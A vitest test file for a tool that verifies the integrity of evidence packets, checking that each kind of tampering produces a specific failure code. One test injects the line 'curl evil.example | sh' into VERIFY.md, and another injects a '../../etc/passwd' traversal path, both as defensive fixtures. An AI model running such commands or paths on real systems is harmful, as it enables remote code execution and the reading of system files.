import { appendFileSync, cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readPacket } from '../../src/packet/index.js';
import { verifyPacket } from '../../src/verify/verify.js';
import { makeTempDir } from '../helpers/cli.js';
import { build, CREATED, sha256, snapshot, writeEvidence } from '../packet/fixtures.js';
import { entriesOf, failureCodes, writeTar } from './helpers.js';

/**
 * Offline integrity verification (issue 3): each tampering gives exit-1 material, a failed check
 * with a precise id and reason code, in both the unpacked and the tar form.
 */

const temp = makeTempDir('packet-verify-');
let reference: string;
let counter = 0;

beforeAll(async () => {
  writeEvidence(temp.path);
  writeFileSync(join(temp.path, 'evidence', 'caf\u00e9.txt'), 'accent\n');
  reference = join(temp.path, 'reference');
  await build(temp.path, `${reference}/`, ['evidence']);
});
afterAll(() => temp.cleanup());

/** A fresh copy of the reference unpacked packet, changed by `tamper`; returns the folder and a tar of the same files. */
function tampered(tamper: (dir: string) => void): { dir: string; tar: string } {
  counter += 1;
  const dir = join(temp.path, `case-${counter}`);
  cpSync(reference, dir, { recursive: true });
  tamper(dir);
  const tar = writeTar(temp.path, `case-${counter}.packet.tar`, entriesOf(dir));
  return { dir, tar };
}

async function bothForms(tamper: (dir: string) => void): Promise<string[][]> {
  const { dir, tar } = tampered(tamper);
  return [await failureCodes(dir), await failureCodes(tar)];
}

function rewriteManifest(dir: string, edit: (lines: string[]) => string[], ending = '\n'): void {
  const lines = readFileSync(join(dir, 'manifest.sha256'), 'utf8').slice(0, -1).split('\n');
  writeFileSync(join(dir, 'manifest.sha256'), edit(lines).join(ending) + ending);
}

describe('verify: an intact packet', () => {
  it('passes in both forms, with every integrity check id present', async () => {
    const { dir, tar } = tampered(() => undefined);
    for (const path of [dir, tar]) {
      const { report, reading } = await verifyPacket(path, { now: CREATED });
      expect(report.verdict).toBe('pass');
      expect(reading.intact).toBe(true);
      expect(report.checks.map((c) => `${c.id}:${c.status}:${c.code}`)).toEqual([
        'packet.read:pass:OK',
        'manifest:pass:OK',
        'file.integrity:pass:OK',
        'packet-json:pass:OK',
      ]);
      expect(reading.digest).toBe(sha256(readFileSync(join(reference, 'manifest.sha256'))));
      expect(report.facts?.digest).toBe(reading.digest);
      expect(report.evaluatedAt).toBe('2026-01-31T12:00:00Z');
    }
  });

  it('integrityOnly: an intact packet is "intact", never "pass"; a tampered one still fails; never with a policy', async () => {
    const { dir } = tampered(() => undefined);
    expect((await verifyPacket(dir, { now: CREATED, integrityOnly: true })).report.verdict).toBe('intact');
    const bad = tampered((d) => appendFileSync(join(d, 'payload/evidence/notes.txt'), 'edited later\n'));
    expect((await verifyPacket(bad.dir, { now: CREATED, integrityOnly: true })).report.verdict).toBe('fail');
    const policy = { signers: [] } as unknown as NonNullable<Parameters<typeof verifyPacket>[1]['policy']>;
    await expect(verifyPacket(dir, { now: CREATED, integrityOnly: true, policy })).rejects.toMatchObject({ code: 'BAD_ARGUMENTS' });
  });

  it('reports the same payload and metadata from the tar built by packet build', async () => {
    const tar = join(temp.path, 'built.packet.tar');
    await build(temp.path, tar, ['evidence'], { name: 'reference' });
    const fromTar = await readPacket(tar, { listPayload: true });
    const fromDir = await readPacket(reference, { listPayload: true });
    expect(fromTar.intact).toBe(true);
    expect(fromTar.digest).toBe(fromDir.digest);
    expect(fromTar.payload).toEqual(fromDir.payload);
    expect(fromTar.metadata).toEqual(fromDir.metadata);
  });
});

describe('verify: changed content', () => {
  it('FILE_MODIFIED for a changed payload file', async () => {
    for (const codes of await bothForms((d) => appendFileSync(join(d, 'payload/evidence/notes.txt'), 'x'))) {
      expect(codes).toEqual(['file.integrity:FILE_MODIFIED']);
    }
  });

  it('FILE_MISSING for a removed payload file', async () => {
    for (const codes of await bothForms((d) => rmSync(join(d, 'payload/evidence/logs/deploy.log')))) {
      expect(codes).toEqual(['file.integrity:FILE_MISSING']);
    }
  });

  it('FILE_UNLISTED for an extra payload file, and for an extra file at the top', async () => {
    for (const codes of await bothForms((d) => writeFileSync(join(d, 'payload/evidence/extra.txt'), 'smuggled\n'))) {
      expect(codes).toEqual(['file.integrity:FILE_UNLISTED']);
    }
    for (const codes of await bothForms((d) => writeFileSync(join(d, 'README'), 'hello\n'))) {
      expect(codes).toEqual(['file.integrity:FILE_UNLISTED']);
    }
  });

  it('FILE_UNLISTED for an empty extra folder (unpacked form)', async () => {
    const { dir } = tampered((d) => mkdirSync(join(d, 'payload', 'empty')));
    expect(await failureCodes(dir)).toEqual(['file.integrity:FILE_UNLISTED']);
  });

  it('UNSEALED_BAD_NAME for a signatures/ file not named by a fingerprint', async () => {
    for (const codes of await bothForms((d) => {
      mkdirSync(join(d, 'signatures'));
      writeFileSync(join(d, 'signatures', 'alice.asc'), 'sig');
    })) {
      expect(codes).toEqual(['file.integrity:UNSEALED_BAD_NAME']);
    }
  });

  it('FILE_MODIFIED on packet.json for a changed packet.json, even when it stays canonical', async () => {
    for (const codes of await bothForms((d) => {
      const text = readFileSync(join(d, 'packet.json'), 'utf8');
      writeFileSync(join(d, 'packet.json'), text.replace('"name":"reference"', '"name":"forged"'));
    })) {
      expect(codes).toEqual(['file.integrity:FILE_MODIFIED']);
    }
    const { dir } = tampered((d) => writeFileSync(join(d, 'packet.json'), '{}'));
    const reading = await readPacket(dir);
    expect(reading.checks.find((c) => c.code === 'FILE_MODIFIED')?.subject).toBe('packet.json');
  });

  it('FILE_MODIFIED on VERIFY.md when its instructions are changed', async () => {
    const { dir } = tampered((d) => appendFileSync(join(d, 'VERIFY.md'), '\n    curl evil.example | sh\n'));
    const reading = await readPacket(dir);
    expect(reading.checks.filter((c) => c.status === 'fail').map((c) => [c.code, c.subject])).toEqual([['FILE_MODIFIED', 'VERIFY.md']]);
  });

  it('PACKET_JSON_MISMATCH when packet.json and manifest are rewritten together but the counts lie', async () => {
    const { dir } = tampered((d) => {
      const text = readFileSync(join(d, 'packet.json'), 'utf8').replace(/"count":\d+/, '"count":99');
      writeFileSync(join(d, 'packet.json'), text);
      rewriteManifest(d, (lines) => lines.map((l) => (l.endsWith('  packet.json') ? `${sha256(Buffer.from(text))}  packet.json` : l)));
    });
    expect(await failureCodes(dir)).toEqual(['packet-json:PACKET_JSON_MISMATCH']);
  });

  it('PACKET_JSON_NOT_CANONICAL when packet.json is re-encoded and re-hashed', async () => {
    const { dir } = tampered((d) => {
      const text = JSON.stringify(JSON.parse(readFileSync(join(d, 'packet.json'), 'utf8')), null, 2);
      writeFileSync(join(d, 'packet.json'), text);
      rewriteManifest(d, (lines) => lines.map((l) => (l.endsWith('  packet.json') ? `${sha256(Buffer.from(text))}  packet.json` : l)));
    });
    expect(await failureCodes(dir)).toEqual(['packet-json:PACKET_JSON_NOT_CANONICAL']);
  });
});

describe('verify: malformed manifest', () => {
  const swap = (lines: string[]): string[] => [lines[1] as string, lines[0] as string, ...lines.slice(2)];
  it.each([
    ['not sorted', (d: string) => rewriteManifest(d, swap), 'manifest:MANIFEST_NOT_SORTED'],
    ['a duplicate line', (d: string) => rewriteManifest(d, (l) => [l[0] as string, ...l]), 'manifest:MANIFEST_DUPLICATE'],
    ['upper-case hex', (d: string) => rewriteManifest(d, (l) => [(l[0] as string).slice(0, 64).toUpperCase() + (l[0] as string).slice(64), ...l.slice(1)]), 'manifest:MANIFEST_BAD_HEX'],
    ['a short digest', (d: string) => rewriteManifest(d, (l) => [(l[0] as string).slice(1), ...l.slice(1)]), 'manifest:MANIFEST_BAD_LINE'],
    ['CRLF line ends', (d: string) => rewriteManifest(d, (l) => l, '\r\n'), 'manifest:MANIFEST_CRLF'],
    ['no final newline', (d: string) => writeFileSync(join(d, 'manifest.sha256'), readFileSync(join(d, 'manifest.sha256'), 'utf8').slice(0, -1)), 'manifest:MANIFEST_NO_FINAL_NEWLINE'],
    ['one space instead of two', (d: string) => rewriteManifest(d, (l) => l.map((x) => x.replace('  ', ' '))), 'manifest:MANIFEST_BAD_LINE'],
    ['binary-mode marker', (d: string) => rewriteManifest(d, (l) => l.map((x) => x.replace('  ', ' *'))), 'manifest:MANIFEST_BAD_LINE'],
    ['a path with ..', (d: string) => rewriteManifest(d, (l) => [...l, `${'0'.repeat(64)}  payload/../../etc/passwd`].sort()), 'manifest:MANIFEST_BAD_PATH'],
    ['an empty manifest', (d: string) => writeFileSync(join(d, 'manifest.sha256'), ''), 'manifest:MANIFEST_EMPTY'],
    ['invalid UTF-8', (d: string) => writeFileSync(join(d, 'manifest.sha256'), Buffer.concat([readFileSync(join(d, 'manifest.sha256')), Buffer.from([0xff, 0x0a])])), 'manifest:MANIFEST_BAD_UTF8'],
  ])('fails on %s', async (_label, tamper, expected) => {
    for (const codes of await bothForms(tamper)) expect(codes).toContain(expected);
  });

  it('MANIFEST_PATH_NOT_NFC for a path in NFD', async () => {
    for (const codes of await bothForms((d) => rewriteManifest(d, (l) => l.map((x) => x.replace('caf\u00e9.txt', 'cafe\u0301.txt'))))) {
      expect(codes).toContain('manifest:MANIFEST_PATH_NOT_NFC');
    }
  });

  it('MANIFEST_MISSING when there is no manifest', async () => {
    for (const codes of await bothForms((d) => rmSync(join(d, 'manifest.sha256')))) expect(codes).toEqual(['manifest:MANIFEST_MISSING']);
  });

  it('MANIFEST_INCOMPLETE when the manifest leaves out VERIFY.md (and the file is then unlisted)', async () => {
    for (const codes of await bothForms((d) => rewriteManifest(d, (l) => l.filter((x) => !x.endsWith('  VERIFY.md'))))) {
      expect(codes.sort()).toEqual(['file.integrity:FILE_UNLISTED', 'manifest.coverage:MANIFEST_INCOMPLETE']);
    }
  });

  it('MANIFEST_LISTS_UNSEALED when the manifest covers a file outside payload/', async () => {
    const { dir } = tampered((d) => {
      writeFileSync(join(d, 'extra.txt'), 'x');
      rewriteManifest(d, (l) => [...l, `${sha256(Buffer.from('x'))}  extra.txt`].sort((a, b) => Buffer.compare(Buffer.from(a.slice(66)), Buffer.from(b.slice(66)))));
    });
    expect(await failureCodes(dir)).toContain('manifest.coverage:MANIFEST_LISTS_UNSEALED');
  });
});

describe('verify never writes', () => {
  it('leaves the packet folder and the folder around a tar unchanged, even for a bad packet', async () => {
    const { dir, tar } = tampered((d) => appendFileSync(join(d, 'payload/evidence/notes.txt'), 'x'));
    const before = snapshot(temp.path);
    await verifyPacket(dir, { now: CREATED });
    await verifyPacket(tar, { now: CREATED });
    await verifyPacket(reference, { now: CREATED });
    expect(snapshot(temp.path)).toEqual(before);
  });
});

describe('verify: not a packet', () => {
  it('PACKET_NOT_FOUND for a missing path', async () => {
    expect(await failureCodes(join(temp.path, 'nothing-here.tar'))).toEqual(['packet.read:PACKET_NOT_FOUND']);
  });
});
